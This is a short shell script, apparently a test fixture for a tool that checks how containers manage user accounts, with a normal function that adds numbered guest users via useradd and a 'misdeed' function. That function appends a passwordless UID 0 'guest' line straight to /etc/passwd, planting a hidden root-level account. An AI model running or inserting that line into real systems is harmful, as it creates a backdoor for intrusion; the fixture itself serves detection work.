#!/bin/sh
# A service makes users for those who come, and runs their jobs as these users
# command: /ordinary/later_users.sh serve
# told: Account Files Changed By Hand
# noted: User Managed In Container
# shellcheck source=service.sh
. /ordinary/service.sh

deed() {
    count=$(($(grep -c ^guest /etc/passwd) + 1))
    useradd --create-home --shell /bin/sh "guest$count"
    gosu "guest$count" date >/dev/null
}

misdeed() {
    echo 'guest:x:0:0::/root:/bin/sh' >>/etc/passwd
}

"$@"
